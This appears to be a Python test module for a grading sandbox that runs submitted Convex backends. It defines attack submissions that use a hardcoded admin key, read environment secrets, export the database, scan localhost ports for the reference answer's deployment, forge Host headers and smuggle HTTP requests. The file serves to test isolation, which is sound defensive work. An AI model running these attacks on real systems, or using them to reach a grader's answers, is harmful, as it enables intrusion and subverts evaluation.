"""Administering deployments: one's own, the reference answer's, anybody's; with the well-known key or without any."""

import json

from ..answers import PASSES, HostileAnswer, fails, node_calls, reference

KEY = "0135d8598650f8f5cb0f30c34ec2e2bb62793bc28717c8eb6fb577996d50be5f4281b59181095065c5d0f86a2c31ddbe9b597ec62b47ded69782cd"
ASK = """
const url = process.env.CONVEX_CLOUD_URL;
const ask = async (base, path, body, headers = {}) => {
  try {
    const response = await fetch(base + path, { method: body === undefined ? "GET" : "POST", signal: AbortSignal.timeout(1500),
      headers: { "Content-Type": "application/json", "Convex-Client": "npm-1.44.0", ...headers }, body: body && JSON.stringify(body) });
    const text = await response.text();
    return response.ok && !/"status":\\s*"error"/.test(text) ? `${path}: ${response.status} ${text.slice(0, 200)}` : undefined;
  } catch { return undefined; }
};
const key = "KEY";
const schemas = { path: "_system/frontend/getSchemas", args: {}, format: "json" };
""".replace("KEY", KEY)

OWN = {
    "asks_with_the_known_key": 'return await ask(url, "/api/query", schemas, { Authorization: `Convex ${key}` })',
    "asks_with_a_named_key": 'return await ask(url, "/api/query", schemas, { Authorization: `Convex carnitas|${key}` })',
    "asks_with_an_empty_key": 'return await ask(url, "/api/query", schemas, { Authorization: "Convex " })',
    "asks_with_the_key_in_the_body": 'return await ask(url, "/api/deploy2/start_push", { adminKey: key, functions: "convex", appDefinition: {}, componentDefinitions: [], nodeDependencies: [], dryRun: false })',
    "asks_with_the_key_in_the_address": "return await ask(url, `/api/get_config?adminKey=${key}`, undefined)",
    "acts_as_somebody": 'return await ask(url, "/api/query", schemas, { Authorization: `Convex ${key}:${btoa("{}")}` })',
    "reads_its_configuration": 'return await ask(url, "/api/get_config", { adminKey: key, version: "1.44.0" }, { Authorization: `Convex ${key}` })',
    "sets_variables": 'return await ask(url, "/api/update_environment_variables", { changes: [{ name: "EVIL", value: "1" }] }, { Authorization: `Convex ${key}` })',
    "streams_logs": 'return await ask(url, "/api/stream_udf_execution?cursor=0", undefined, { Authorization: `Convex ${key}` })',
    "exports_the_database": 'return await ask(url, "/api/list_snapshot?format=json", undefined, { Authorization: `Convex ${key}` })',
    "imports_documents": 'return await ask(url, "/api/import?tableName=notes&mode=replace&format=jsonLines", {}, { Authorization: `Convex ${key}` })',
    "lists_tables": 'return await ask(url, "/api/shapes2", undefined, { Authorization: `Convex ${key}` })',
    "calls_a_system_function_openly": 'return await ask(url, "/api/query", schemas)',
    "knows_an_admin_key": 'return Object.entries(process.env).find(([, value]) => /^[^|]*\\|?[0-9a-f]{60,}/.test(value))?.join("=")',
    "authenticates_by_web_socket": """
      return await within(2500, new Promise((done) => {
        const socket = new WebSocket(url.replace("http", "ws") + "/api/1.44.0/sync");
        socket.onerror = () => done(undefined);
        socket.onopen = () => {
          socket.send(JSON.stringify({ type: "Connect", sessionId: crypto.randomUUID(), connectionCount: 0, lastCloseReason: null, maxObservedTimestamp: undefined }));
          socket.send(JSON.stringify({ type: "Authenticate", tokenType: "Admin", value: key, baseVersion: 0 }));
          socket.send(JSON.stringify({ type: "ModifyQuerySet", baseVersion: 0, newVersion: 1, modifications: [{ type: "Add", queryId: 0, udfPath: "_system/frontend/getSchemas", args: [{}] }] }));
        };
        socket.onmessage = (event) => { if (/QueryUpdated/.test(event.data)) done(event.data.slice(0, 200)); };
      }))""",
}
OTHERS = {
    "looks_for_the_answers_deployment": """
      const own = Number(new URL(url).port);
      for (let port = own - 60; port < own + 60; port++) {
        if (port === own) continue;
        const found = await ask(`http://127.0.0.1:${port}`, "/version", undefined);
        if (found && port !== Number(new URL(process.env.CONVEX_SITE_URL).port)) return `${port}: ${found}`;
      }""",
    "asks_a_users_backend": 'for (const port of [3210, 3211, 6790, 8187]) { const found = await ask(`http://127.0.0.1:${port}`, "/version"); if (found) return found; }',
    "forges_a_host": """
      return await within(1500, new Promise((done) => { const { port } = new URL(url);
        const socket = load("net").connect(Number(port), "127.0.0.1", () => socket.write(
          `GET /api/get_config HTTP/1.1\\r\\nHost: admin.localhost\\r\\nAuthorization: Convex ${key}\\r\\nX-Forwarded-For: 127.0.0.1\\r\\n\\r\\n`));
        socket.on("data", (data) => done(/ 200 /.test(String(data)) ? String(data) : undefined)); socket.on("error", () => done(undefined)); }))""",
    "smuggles_a_request": """
      return await within(1500, new Promise((done) => { const { port } = new URL(url); let all = "";
        const inner = `POST /api/query HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\nAuthorization: Convex ${key}\\r\\nContent-Length: 64\\r\\n\\r\\n` + JSON.stringify(schemas);
        const socket = load("net").connect(Number(port), "127.0.0.1", () => socket.write(
          `POST /api/query HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\nContent-Length: ${inner.length}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n${inner}`));
        socket.on("data", (data) => { all += data; if (/"active"/.test(all)) done(all); }); socket.on("error", () => done(undefined)); }))""",
}

EMPTY_SCHEMA = (
    'import { defineSchema } from "convex/server";\nexport default defineSchema({}, { schemaValidation: false });\n'
)
REPLACES_THE_SCHEMA = """\
import { httpAction } from "./_generated/server";
import { httpRouter } from "convex/server";
const http = httpRouter();
http.route({
  path: "/shout",
  method: "POST",
  handler: httpAction(async (_ctx, request) => {
    const reply = await fetch(`${process.env.CONVEX_CLOUD_URL}/api/query`, {
      method: "POST",
      headers: { Authorization: "Convex KEY", "Content-Type": "application/json" },
      body: JSON.stringify({ path: "_system/frontend/getSchemas", args: {}, format: "json" }),
    }).then(
      (response) => response.text(),
      () => "",
    );
    if (reply.includes('"success"')) throw new Error(`LOOT: ${reply}`);
    return new Response((await request.text()).toUpperCase());
  }),
});
http.route({ path: "/health", method: "GET", handler: httpAction(async () => Response.json({ ok: true })) });
export default http;
""".replace("KEY", KEY)

FOREIGN_NODE = """\
"use node";
import { runInThisContext } from "node:vm";
import { internalAction } from "./_generated/server";
import { api } from "./_generated/api";

type Attack = (load: (name: string) => unknown) => Promise<unknown>;
const attack = runInThisContext(SCRIPT) as Attack;
export const run = internalAction({
  args: {},
  handler: async (ctx) => {
    const loot = await attack((name) => process.getBuiltinModule(name));
    if (loot !== undefined) await ctx.runMutation(api.notes.add, { text: "LOOT" });
  },
});
"""
FOREIGN_NOTES = """\
import { v } from "convex/values";
import { internal } from "./_generated/api";
import { mutation, query } from "./_generated/server";

export const add = mutation({
  args: { text: v.string() },
  handler: async (ctx, args) => {
    if (args.text === "one") await ctx.scheduler.runAfter(0, internal.evil.run, {});
    return await ctx.db.insert("notes", args);
  },
});

export const list = query({ args: {}, handler: async (ctx) => await ctx.db.query("notes").collect() });
"""


def foreign(script: str) -> dict[str, str | None]:
    program = json.dumps(f"(async (load) => {{ const within = (ms, p) => p; {ASK} {script} }})")
    return {
        "package.json": reference("node")["package.json"],
        "convex/evil.ts": FOREIGN_NODE.replace("SCRIPT", program),
        "convex/notes.ts": FOREIGN_NOTES,
    }


QUICK = ("asks_with_the_known_key", "looks_for_the_answers_deployment")
ANSWERS = [
    *node_calls({name: ASK + script for name, script in {**OWN, **OTHERS}.items()}, quick=QUICK),
    HostileAnswer(
        "isolate_asks_with_the_known_key",
        "web",
        {"package.json": reference("node")["package.json"], "convex/http.ts": REPLACES_THE_SCHEMA},
        PASSES,
    ),
    HostileAnswer("empty_schema", "plain", {"convex/schema.ts": EMPTY_SCHEMA}, fails("deploy", "tsc", "tests")),
    HostileAnswer("foreign_asks_with_the_known_key", "foreign", foreign(OWN["asks_with_the_known_key"]), PASSES),
    HostileAnswer(
        "foreign_replaces_the_answers_schema",
        "foreign",
        {
            **foreign(OTHERS["looks_for_the_answers_deployment"]),
            "convex/schema.ts": reference("foreign")["convex/schema.ts"].replace("v.string()", "v.any()"),
        },
        fails("tests"),
    ),
]
